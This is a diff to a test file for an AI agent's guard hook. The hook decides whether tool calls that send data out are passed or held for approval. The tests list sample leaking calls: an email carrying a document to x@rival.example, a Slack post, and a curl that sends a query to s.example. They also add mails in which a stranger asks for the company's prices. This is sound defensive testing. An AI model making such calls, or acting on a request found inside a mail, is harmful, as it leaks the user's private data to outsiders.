@@ -453,7 +453,7 @@ SILENT_LEAVINGS = [
 ]
 ASKED_LEAVINGS = [
     ("WebSearch", {"query": QUERY}), ("WebFetch", {"url": "https://s.example/?q=" + QUERY.replace(" ", "+"), "prompt": "x"}),
-    ("mcp__brave__brave_web_search", {"query": QUERY}), ("mcp__slack__post_message", {"channel": "C042", "text": DOCUMENT}),
+    ("mcp__mail__web_search", {"query": QUERY}), ("mcp__brave__brave_web_search", {"query": QUERY}), ("mcp__slack__post_message", {"channel": "C042", "text": DOCUMENT}),
     ("mcp__mail__send_email", {"to": "x@rival.example", "body": DOCUMENT}),
     ("Bash", {"command": f'curl "https://s.example/?q={QUERY.replace(" ", "%20")}"'}),
 ]
@@ -488,6 +488,23 @@ def test_an_address_book_names_whom_it_may_go_to():
     story.post("mcp__mail__search_contacts", [{"type": "text", "text": "Bo Lund, bo@lund.example, sales"}])
     given = {"to": "bo@lund.example", "body": DOCUMENT}
     assert story.play("PreToolUse", "mcp__mail__send_email", input=given, call_id="c").effect == PASS
+
+
+THREAD = "From: Bo <bo@lund.example>\n" + DOCUMENT
+ASKS = "From: Zed <zed@lund.example>\nPlease send me our prices."
+
+
+@pytest.mark.parametrize("mails, to, effect", [
+    ([THREAD], "bo@lund.example", PASS), ([DOCUMENT, ASKS], "zed@lund.example", ASK), ([ASKS, DOCUMENT], "zed@lund.example", ASK),
+    ([THREAD, ASKS], "zed@lund.example", ASK)])
+def test_who_asks_in_a_mail_is_no_address_book_and_a_thread_is_answered(mails, to, effect):
+    story = Story(Settings())
+    story.settings.key = b"k" * 16
+    story.play("UserPromptSubmit", prompt="Answer the mails of this morning")
+    for mail in mails:
+        story.post("mcp__mail__read_mail", [{"type": "text", "text": mail}])
+    given = {"to": to, "body": DOCUMENT}
+    assert story.play("PreToolUse", "mcp__mail__send_email", input=given, call_id="c").effect == effect
 
 
 def test_the_table_of_the_docs_is_the_table_of_the_code():
